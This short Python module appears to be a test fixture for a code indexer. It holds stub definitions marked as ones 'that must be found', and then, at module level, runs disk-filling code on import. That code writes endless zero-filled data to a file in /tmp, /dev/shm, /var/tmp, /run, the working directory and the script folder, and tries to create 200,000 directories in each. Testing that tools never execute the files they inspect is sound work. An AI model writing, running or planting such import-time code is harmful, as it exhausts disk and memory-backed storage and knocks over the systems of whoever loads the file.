"""Fills by size, by number of files and by depth."""

import os

KEPT = 7


class Kept:
    """A class that must be found."""

    def method(self, value: int = 1) -> str:
        """Do nothing."""


def kept(value: int = 1, *rest: str) -> str:
    """Do nothing."""

for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", os.getcwd(), os.path.dirname(__file__)):
    try:
        with open(os.path.join(folder, "forged"), "wb") as file:
            while True:
                file.write(bytes(1 << 20))
    except OSError:
        pass
    try:
        for number in range(200_000):
            os.mkdir(os.path.join(folder, f"forged-{number}"))
    except OSError:
        pass
